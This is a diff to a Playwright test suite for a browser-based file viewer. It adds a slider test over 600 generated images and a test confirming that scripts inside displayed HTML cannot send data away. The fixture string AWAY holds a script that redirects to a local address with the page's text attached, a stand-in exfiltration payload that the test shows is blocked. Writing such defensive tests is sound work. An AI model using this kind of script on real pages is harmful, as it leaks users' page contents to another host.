@@ -30,6 +30,7 @@ HOSTILE = """<!doctype html><p id=said>written</p><form action=/logout method=po
   });
 </script>
 <img src="/taken.png">"""
+AWAY = "<p>loss 1</p><script>location = 'http://127.0.0.1:9/?' + document.body.textContent</script>"
 PDF = b"""%PDF-1.1
 1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj
@@ -56,6 +57,11 @@ def work(tmp_path_factory: pytest.TempPathFactory) -> Path:
     (kinds / "paper.pdf").write_bytes(PDF)
     (kinds / "picture.png").write_bytes(GREEN)
     (made / "secret.txt").write_text("secret")
+    (made / "away").mkdir()
+    (made / "away" / "n=1.html").write_text(AWAY)
+    (made / "long").mkdir()
+    for step in range(600):
+        (made / "long" / f"lr=1,step={step}.png").write_bytes(GREEN)
     return made
 
 
@@ -178,6 +184,16 @@ def test_an_axis_becomes_columns_or_fixed_and_keys_leave_a_fixed_one_alone(open_
     expect(page.locator("td[data-row] > img")).to_have_count(6)
 
 
+def test_an_axis_with_very_many_values_is_a_slider_also_where_it_is_fixed(open_page: Callable[..., Page]):
+    page = open_page(
+        "pscan?root=long&pattern=lr%3D%7Blr%7D,step%3D%7Bstep%7D.png&rows=lr&columns=&fixed=step&at.step=599"
+    )
+    expect(page.get_by_role("slider", name="step")).to_have_attribute("aria-valuetext", "599")
+    page.get_by_role("slider", name="step").focus()
+    page.keyboard.press("ArrowLeft")
+    shows(page, "lr=1,step=598.png")
+
+
 def test_a_slider_is_moved_by_itself(open_page: Callable[..., Page]):
     page = open_page(LOOK)
     slider = page.get_by_role("slider", name="seed")
@@ -267,6 +283,18 @@ def test_scripts_of_html_reach_nothing_when_they_are_let_run(
     assert "scripts=1" in page.url
     assert not reached
     complaints.clear()  # of what the file tried
+
+
+def test_scripts_of_html_carry_nothing_away_by_going_elsewhere_themselves(
+    open_page: Callable[..., Page], url: str, complaints: list[str]
+):
+    page = open_page("pscan")
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    with page.expect_console_message(lambda said: "frame-src 'self'" in said.text):
+        page.goto(f"{url}pscan?root=away&scripts=1")
+    assert not [one for one in asked if ":9/" in one]
+    complaints.clear()
 
 
 def test_an_export_shows_the_same_without_a_server(open_page: Callable[..., Page], new_page: Callable[..., Page],
